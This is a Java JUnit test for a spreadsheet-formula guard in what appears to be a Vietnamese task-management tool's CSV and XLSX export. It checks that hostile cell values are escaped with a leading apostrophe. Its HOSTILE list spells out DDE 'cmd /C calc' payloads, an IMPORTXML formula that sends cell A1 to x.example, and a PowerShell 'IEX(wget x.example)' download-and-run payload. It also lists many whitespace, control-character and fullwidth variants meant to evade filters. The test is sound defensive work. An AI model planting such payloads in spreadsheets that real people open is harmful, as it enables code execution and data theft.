package vn.giaoviec.cli.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class FormulaGuardTest {

  private static final List<String> HOSTILE =
      List.of(
          "=1+1",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://x.example\",\"xem\")",
          "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "=SUM(A1:A9)*cmd|'/c calc'!A0",
          "+1+1",
          "+cmd|' /C calc'!A0",
          "-1+1",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)",
          "@cmd|' /C calc'!A0",
          " =1+1",
          "   +1+1",
          "\t=1+1",
          "\tXây dựng",
          "\r=1+1",
          "\rXây dựng",
          "\n=1+1",
          "\n@SUM(1)",
          "\u00A0=1+1",
          "\u2003=1+1",
          "\u200B=1+1",
          "\uFEFF=1+1",
          "\u202E=1+1",
          "\u0000=1+1",
          "\u0001+1",
          "\uFF1D1+1",
          "\uFF0B1+1",
          "\uFF0D1+1",
          "\uFF20SUM(1)",
          "=",
          "-",
          "- Xây dựng kế hoạch",
          "+ Giao Sở Y tế",
          "=\"a\"&\"b\"",
          "=1,\"=2\"",
          "=1\n=2",
          " \t\n=1+1",
          "-cmd|'/C powershell IEX(wget x.example)'!A0");

  private static final List<String> HARMLESS =
      List.of(
          "Xây dựng đề án", "1+1=2", "a@b.vn", "“=1+1”", "'=1+1", "(-5%)", "282/TB-LMHTXVN", "");

  @Test
  void hostileTextsBecomeTextAndOthersStay() {
    assertEquals(40, HOSTILE.size());
    HOSTILE.forEach(text -> assertEquals("'" + text, FormulaGuard.safe(text)));
    HARMLESS.forEach(text -> assertEquals(text, FormulaGuard.safe(text)));
  }

  @Test
  void noFieldOfCommaSeparatedValuesBeginsLikeAFormula() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvExport.write(sheet(), out);
    String text = out.toString(StandardCharsets.UTF_8);
    for (String hostile : HOSTILE) {
      String quoted = hostile.replace("\"", "\"\"");
      boolean plain = text.contains("\r\n'" + quoted + ",end\r\n");
      boolean inQuotes = text.contains("\r\n\"'" + quoted + "\",end\r\n");
      assertTrue(plain || inQuotes, hostile);
    }
  }

  @Test
  void noCellOfAWorkbookIsAFormulaOrBeginsLikeOne() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    XlsxExport.write(List.of(sheet()), out);
    try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
      int rows = 0;
      for (Row row : book.getSheetAt(0)) {
        assertNotEquals(CellType.FORMULA, row.getCell(0).getCellType());
        assertTrue(row.getRowNum() == 0 || row.getCell(0).getStringCellValue().startsWith("'"));
        rows++;
      }
      assertEquals(1 + HOSTILE.size(), rows);
    }
  }

  private static Sheet sheet() {
    return new Sheet(
        "Sheet",
        List.of(new Sheet.Column("Text", 20), new Sheet.Column("End", 5)),
        Lazy.rows(HOSTILE, text -> List.of(Cell.of(text), Cell.of("end"))));
  }
}
